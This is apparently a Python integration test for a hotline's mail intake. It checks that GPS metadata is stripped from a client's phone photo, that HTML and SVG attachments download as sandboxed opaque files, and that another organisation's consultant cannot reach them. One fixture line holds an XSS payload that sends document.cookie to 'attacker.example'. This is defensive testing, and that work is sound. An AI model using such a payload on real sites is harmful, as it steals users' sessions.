"""Attachments a consultant can open safely, through the real intake and store: a client's mail
with a phone photo (EXIF with a GPS position), an HTML page and an SVG drawing (each with a
script) reaches the console; the photo downloads without its metadata, the rest as opaque
files; another organisation's consultant gets 404 (issue: survivor safety, item 6)."""

from __future__ import annotations

import io
from email.message import EmailMessage

from PIL import Image

from tests.conftest import Gateway
from tests.integration.email_support import queued_threads, supervisor
from tests.integration.helpers import Mailbox, logged_in, new_message_id

GPS_IFD = 0x8825
SCRIPT = b"<script>fetch('https://attacker.example/'+document.cookie)</script>"


def photo() -> bytes:
    """A JPEG as a phone writes it: EXIF with the camera and a GPS position (Minsk)."""
    img = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[GPS_IFD] = {1: "N", 2: (53.0, 54.0, 0.0), 3: "E", 4: (27.0, 33.0, 0.0)}
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


async def test_a_photo_downloads_without_its_gps_and_active_files_never_render(gateway: Gateway) -> None:
    original = photo()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD), "the photo carries a position"
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "client@example.org", "hotline@demo.test", "photos"
    msg["Message-ID"] = new_message_id()
    msg.set_content("Here is what happened.")
    msg.add_attachment(original, maintype="image", subtype="jpeg", filename="IMG_0001.jpg")
    msg.add_attachment(
        b"<html><body>hi" + SCRIPT + b"</body></html>", maintype="text", subtype="html", filename="page.html"
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    msg.add_attachment(svg, maintype="image", subtype="svg+xml", filename="Схема.svg")

    sofia = await supervisor(gateway)
    anna = await logged_in(gateway.store_url, "anna")
    vera = await logged_in(gateway.store_url, "vera")
    try:
        await Mailbox("127.0.0.1", gateway.urls.imap_port, gateway.line_mailbox).append(bytes(msg))
        (thread_id,) = await queued_threads(sofia, 1)
        status, thread = await anna.call("GET", f"/api/threads/{thread_id}")
        assert status == 200, thread
        (message,) = [m for m in thread["messages"] if m.get("attachments")]
        atts = {a["filename"]: a for a in message["attachments"]}
        assert set(atts) == {"IMG_0001.jpg", "page.html", "Схема.svg"}

        def url(name: str) -> str:
            return f"{anna.base}/api/threads/{thread_id}/attachments/{atts[name]['id']}"

        async with anna.http.get(url("IMG_0001.jpg")) as resp:
            assert resp.status == 200
            body = await resp.read()
            headers = resp.headers
        assert headers["Content-Type"] == "image/jpeg"
        assert (
            headers["Content-Disposition"].startswith("attachment;")
            and "IMG_0001.jpg" in headers["Content-Disposition"]
        )
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Cache-Control"] == "no-store"
        clean = Image.open(io.BytesIO(body))
        assert clean.size == (64, 48) and clean.format == "JPEG"
        assert dict(clean.getexif()) == {} and b"PhoneMaker" not in body and b"Exif" not in body

        for name, raw in (("page.html", None), ("Схема.svg", svg)):
            async with anna.http.get(url(name)) as resp:
                assert resp.status == 200
                got = await resp.read()
                # Saved, never rendered: opaque type, a download, a sandbox if opened anyway.
                assert resp.headers["Content-Type"] == "application/octet-stream", name
                assert resp.headers["Content-Disposition"].startswith("attachment;")
                assert "sandbox" in resp.headers["Content-Security-Policy"]
            assert SCRIPT in got and (raw is None or got == raw)
        async with anna.http.get(url("Схема.svg")) as resp:
            assert (
                "filename*=UTF-8''%D0%A1%D1%85%D0%B5%D0%BC%D0%B0.svg" in resp.headers["Content-Disposition"]
            )

        # Another organisation's consultant: the thread does not exist for her, nor its files.
        async with vera.http.get(url("IMG_0001.jpg").replace(anna.base, vera.base)) as resp:
            assert resp.status == 404
            assert b"PhoneMaker" not in await resp.read()
        # An id that is not one of this thread's attachments.
        async with anna.http.get(f"{anna.base}/api/threads/{thread_id}/attachments/{'0' * 32}") as resp:
            assert resp.status == 404
        # Each download is among the thread's recorded reads.
        status, reads = await sofia.call("GET", f"/api/threads/{thread_id}/reads")
        assert status == 200
        assert sum(1 for r in reads if r["login"] == "anna" and r["what"] == "attachment") == 4
    finally:
        for c in (sofia, anna, vera):
            await c.close()
